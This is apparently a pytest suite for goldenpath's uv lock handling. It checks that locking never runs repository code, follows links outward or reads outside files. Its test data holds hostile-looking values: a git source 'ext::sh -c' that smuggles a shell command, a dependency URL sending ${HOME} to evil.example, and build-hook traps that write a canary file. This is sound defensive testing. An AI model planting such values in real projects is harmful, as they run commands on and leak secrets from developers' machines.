"""Nothing of a repository runs when it is locked, and nothing outside of it is written."""

import os
import subprocess
from pathlib import Path

import pytest

from goldenpath.model.drift import FileState
from goldenpath.model.update import UpdateState
from goldenpath.operations.drift.lock_check import check_lock

from support.command import run_goldenpath
from support.lock_traps import (
    BARE,
    EMPTY_LOCK,
    TRAPS,
    bare,
    release_other_settings,
)
from support.small_template import Repository, SmallTemplate, snapshot, write

pytestmark = pytest.mark.slow


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    return tmp_path / "canary"


@pytest.fixture
def behind(small: SmallTemplate, repository: Repository) -> Repository:
    """A repository without dependencies, and with an update that changes its pyproject.toml."""
    write(repository.root / "pyproject.toml", bare(repository.read("pyproject.toml")))
    repository.write("uv.lock", EMPTY_LOCK)
    release_other_settings(small)
    return repository


def add(repository: Repository, text: str) -> None:
    repository.write("pyproject.toml", f"{text}\n{repository.read('pyproject.toml')}")


def lock_by_hand(root: Path, *options: str) -> None:
    subprocess.run([os.environ.get("UV", "uv"), "lock", "--quiet", *options], cwd=root, check=True)


@pytest.mark.parametrize("name", TRAPS)
def test_no_code_of_the_repository_runs(behind: Repository, canary: Path, name: str) -> None:
    trap = TRAPS[name]
    trap.plant(behind, canary)
    finding = check_lock(behind.root)
    assert finding
    assert finding.state is (FileState.UNCHECKED if trap.said else FileState.OUTDATED)
    assert trap.said in finding.message
    before, lock = snapshot(behind.root), behind.read("uv.lock")
    foreseen = behind.update(lock=True, dry_run=True)
    assert foreseen.state is UpdateState.WOULD_UPDATE
    assert trap.said in (foreseen.lock_left or "")
    assert snapshot(behind.root) == before
    report = behind.update(lock=True)
    assert report.state is UpdateState.UPDATED
    assert not canary.exists()
    assert behind.status() == ""
    if trap.said:
        assert trap.said in str(report.lock_left)
        assert "Run `uv lock`" in str(report.lock_left)
        assert (report.is_locked, behind.read("uv.lock")) == (False, lock)
    else:
        assert (report.is_locked, report.lock_left) == (True, None)
        assert 'name = "demo"' in behind.read("uv.lock")


@pytest.mark.parametrize("name", [name for name, trap in TRAPS.items() if trap.is_built])
def test_what_must_be_built_is_built_where_it_is_asked_for(
    behind: Repository, canary: Path, name: str
) -> None:
    trap = TRAPS[name]
    trap.plant(behind, canary)
    report = behind.update(lock=True, build=True)
    assert (report.is_locked, report.lock_left) == (True, None)
    assert canary.exists()
    assert 'name = "demo"' in behind.read("uv.lock")
    assert behind.status() == ""


def test_the_commands_run_nothing_either(behind: Repository, canary: Path) -> None:
    TRAPS["a dynamic version with a hatch hook"].plant(behind, canary)
    environment = {"GOLDENPATH_CACHE": str(behind.cache)}
    for command in (("check",), ("update", "--dry-run"), ("update",)):
        done = run_goldenpath(*command, folder=behind.root, environment=environment)
        assert done.returncode == (1 if command == ("check",) else 0), done.stderr
        assert not canary.exists()
    assert "uv.lock is left as it is" in done.stdout


def test_the_command_builds_where_it_is_asked_for(behind: Repository, canary: Path) -> None:
    TRAPS["a back end in the tree"].plant(behind, canary)
    environment = {"GOLDENPATH_CACHE": str(behind.cache)}
    done = run_goldenpath("update", "--build", folder=behind.root, environment=environment)
    assert done.returncode == 0, done.stderr
    assert "locked again" in done.stdout
    assert canary.exists()


@pytest.mark.parametrize("build", [False, True])
@pytest.mark.parametrize("place", ["outside", "inside"])
def test_a_lock_that_is_a_link_is_left_alone(
    behind: Repository, tmp_path: Path, place: str, build: bool
) -> None:
    target = tmp_path / "outside.lock" if place == "outside" else behind.root / "other.lock"
    target.write_text(EMPTY_LOCK)
    (behind.root / "uv.lock").unlink()
    (behind.root / "uv.lock").symlink_to(os.path.relpath(target, behind.root))
    behind.commit()
    finding = check_lock(behind.root)
    assert finding
    assert finding.state is FileState.UNCHECKED
    assert "uv.lock is a link" in finding.message
    report = behind.update(lock=True, build=build)
    assert report.state is UpdateState.UPDATED
    assert "it is a link" in str(report.lock_left)
    assert target.read_text() == EMPTY_LOCK
    assert (behind.root / "uv.lock").is_symlink()


@pytest.mark.parametrize("file", ["pyproject.toml", "uv.toml"])
@pytest.mark.parametrize(
    "setting",
    [
        "cache-dir = '{outside}'",
        "python-install-mirror = 'file://{outside}'",
        "python-downloads-json-url = 'file://{outside}'",
        "link-mode = 'symlink'",
        "no-build = false",
        "no-build-isolation = true",
    ],
)
def test_settings_that_do_not_decide_the_lock_do_nothing(
    behind: Repository, tmp_path: Path, file: str, setting: str
) -> None:
    outside = tmp_path / "outside"
    text = setting.format(outside=outside)
    if file == "uv.toml":
        behind.write(file, f"{text}\n")
    else:
        add(behind, f"[tool.uv]\n{text}")
    finding = check_lock(behind.root)
    assert finding
    assert finding.state is FileState.OUTDATED
    assert behind.update(lock=True).is_locked
    assert check_lock(behind.root) is None
    assert not outside.exists()


LEFT = {
    "a program for passwords": ("[tool.uv]\nkeyring-provider = 'subprocess'", "keyring-provider"),
    "sources alone": ("[tool.uv]\nno-binary = true", "sets uv's no-binary"),
    "a proxy": ("[tool.uv]\nhttps-proxy = 'http://127.0.0.1:9'", "sets uv's https-proxy"),
    "a setting of tomorrow": ("[tool.uv]\nbrew-coffee = 'make'", "sets uv's brew-coffee"),
    "an index in a folder": ("[[tool.uv.index]]\nurl = '/srv/wheels'", "on this machine, /srv"),
    "an index as a file": ("[[tool.uv.index]]\nurl = 'file:///srv'", "on this machine, file:"),
    "links in a folder": ("[tool.uv]\nfind-links = ['wheels']", "on this machine, wheels"),
    "a source outside": ("[tool.uv.sources]\nx = { path = '../x' }", "../x lies outside"),
    "an absolute source": ("[tool.uv.sources]\nx = { path = '/srv/x' }", "/srv/x lies outside"),
    "a source that is not there": ("[tool.uv.sources]\nx = { path = 'x' }", "x would have to be"),
    "a source in an archive": ("[tool.uv.sources]\nx = { path = 'x.tar.gz' }", "x.tar.gz would"),
    "an odd source": ('[tool.uv.sources]\nx = { path = "a\\u0000b" }', "lies outside"),
    "git by a command": ("[tool.uv.sources]\nx = { git = 'ext::sh -c touch% x' }", "ext::sh"),
    "git in a folder": ("[tool.uv.sources]\nx = { git = 'file:///srv/x' }", "file:///srv/x"),
    "a member outside": ("[tool.uv.workspace]\nmembers = ['../*']", "../* lies outside"),
    "a file as a group": (
        "[tool.uv]\ndev-dependencies = ['x @ file:///srv/x']",
        "requires 'x @ file:///srv/x', which is read from this machine",
    ),
    "a secret of the environment": (
        "[tool.uv]\ndev-dependencies = ['x @ https://evil.example/${HOME}/x.whl']",
        "which is read from this machine",
    ),
    "a path without a scheme": ("[tool.uv]\noverride-dependencies = ['x @ ./x']", "requires 'x @ "),
    "a linked project": (
        "[tool.uv.sources]\nx = { path = 'linked' }",
        "linked is a link, and goldenpath does not follow links",
    ),
    "below a link": ("[tool.uv.sources]\nx = { path = 'linked/x' }", "linked/x would have to be"),
    "a workspace in it": ("[tool.uv.sources]\nx = { path = 'space' }", "a workspace of its own"),
    "Poetry's": (
        "[tool.uv.sources]\nx = { path = 'poetry' }",
        "its dependencies are for Poetry",
    ),
    "no version": ("[tool.uv.workspace]\nmembers = ['nameless']", "no static name and version"),
}


@pytest.mark.parametrize("name", LEFT)
def test_settings_that_goldenpath_does_not_lock_with_leave_the_lock(
    behind: Repository, tmp_path: Path, name: str
) -> None:
    settings, said = LEFT[name]
    static = '[project]\nname = "x"\nversion = "1"\n'
    write(tmp_path / "x/pyproject.toml", static)
    (behind.root / "linked").symlink_to(tmp_path)
    write(behind.root / "x.tar.gz", b"")
    write(behind.root / "space/pyproject.toml", f"{static}[tool.uv.workspace]\nmembers = ['y']\n")
    write(behind.root / "poetry/pyproject.toml", f"{static}[tool.poetry]\nname = 'x'\n")
    write(behind.root / "nameless/pyproject.toml", "[project]\nname = 'x'\n")
    add(behind, settings)
    finding = check_lock(behind.root)
    assert finding
    assert (finding.state, said in finding.message) == (FileState.UNCHECKED, True), finding.message
    report = behind.update(lock=True)
    assert report.state is UpdateState.UPDATED
    assert said in str(report.lock_left)
    assert behind.read("uv.lock") == EMPTY_LOCK


@pytest.mark.parametrize(
    "source",
    [
        '{ editable = "../outside" }',
        '{ directory = "/srv/outside" }',
        '{ git = "ext::sh -c touch% x" }',
        '{ registry = "../wheels" }',
        '{ url = "file:///srv/x.whl" }',
    ],
)
def test_a_lock_that_leads_outside_is_not_given_to_uv(behind: Repository, source: str) -> None:
    package = f'\n[[package]]\nname = "x"\nversion = "1"\nsource = {source}\n'
    behind.write("uv.lock", EMPTY_LOCK + package)
    finding = check_lock(behind.root)
    assert finding
    assert finding.state is FileState.UNCHECKED
    report = behind.update(lock=True)
    assert report.lock_left
    assert package in behind.read("uv.lock")


def test_folders_above_the_temporary_one_decide_nothing(
    behind: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Everybody may write into the folder of temporary files."""
    above = tmp_path / "temporary"
    write(above / "pyproject.toml", "[tool.uv.workspace]\nmembers = ['*']\n")
    write(above / "uv.toml", f"cache-dir = '{tmp_path / 'cache-of-others'}'\n")
    write(above / ".python-version", str(tmp_path / "evil"))
    monkeypatch.setenv("TMPDIR", str(above))
    monkeypatch.setattr("tempfile.tempdir", None)
    assert behind.update(lock=True).is_locked
    assert check_lock(behind.root) is None
    assert {path.name for path in above.iterdir()} == {
        "pyproject.toml",
        "uv.toml",
        ".python-version",
    }
    assert not (tmp_path / "cache-of-others").exists()


def test_variables_that_lead_to_another_project_are_not_inherited(
    behind: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = tmp_path / "other"
    write(other / "pyproject.toml", f'[project]\nname = "other"\nversion = "1"\n{BARE}')
    for name in ("UV_PROJECT", "UV_WORKING_DIR"):
        monkeypatch.setenv(name, str(other))
    monkeypatch.setenv("UV_FROZEN", "1")
    assert behind.update(lock=True).is_locked
    assert 'name = "demo"' in behind.read("uv.lock")
    assert [path.name for path in other.iterdir()] == ["pyproject.toml"]


def test_a_build_follows_no_link_out(behind: Repository, canary: Path, tmp_path: Path) -> None:
    """A link within the tree is the file that it leads to; others are not there."""
    reader = (
        "import os\n"
        f"open({str(canary)!r}, 'w').write(repr([os.path.exists(p) for p in ('in', 'out', 'up')]))"
    )
    trap = TRAPS["a back end in the tree"]
    outside = tmp_path / "outside"
    outside.write_text("x")
    for name, target in (("in", "second"), ("second", "README.md"), ("out", str(outside))):
        (behind.root / name).symlink_to(target)
    (behind.root / "up").symlink_to("../outside")
    (behind.root / "loop").symlink_to("loop")
    trap.plant(behind, canary)
    backend = behind.read("backend.py")
    behind.write("backend.py", backend.replace(backend.splitlines()[0], reader))
    assert behind.update(lock=True, build=True).is_locked
    assert canary.read_text() == "[True, False, False]"


@pytest.mark.parametrize("name", TRAPS)
def test_a_trap_bites_when_uv_is_run_by_hand(behind: Repository, canary: Path, name: str) -> None:
    """A trap that never bites would prove nothing."""
    TRAPS[name].plant(behind, canary)
    lock_by_hand(behind.root)
    assert canary.exists()


def test_uv_sees_two_files_and_nothing_that_is_a_program(
    behind: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen = tmp_path / "seen"
    uv = tmp_path / "uv"
    uv.write_text(f'#!/bin/sh\n{{ echo "$@"; find . -type f; env; }} > {seen}\n')
    uv.chmod(0o755)
    monkeypatch.setenv("UV", str(uv))
    behind.write("setup.py", "")
    assert behind.update(lock=True, dry_run=True).state is UpdateState.WOULD_UPDATE
    assert not seen.exists()
    behind.update(lock=True)
    asked, *rest = seen.read_text().splitlines()
    assert asked.startswith("lock ")
    assert {"--no-build", "--python"} <= set(asked.split())
    assert sorted(line for line in rest if line.startswith("./")) == [
        "./pyproject.toml",
        "./uv.lock",
    ]
    assert "GIT_ALLOW_PROTOCOL=https:http:ssh" in rest
    places = [line.partition("=")[2] for line in rest if line.startswith("UV_PROJECT_ENVIRONMENT=")]
    assert len(places) == 1
    assert not Path(places[0]).exists()
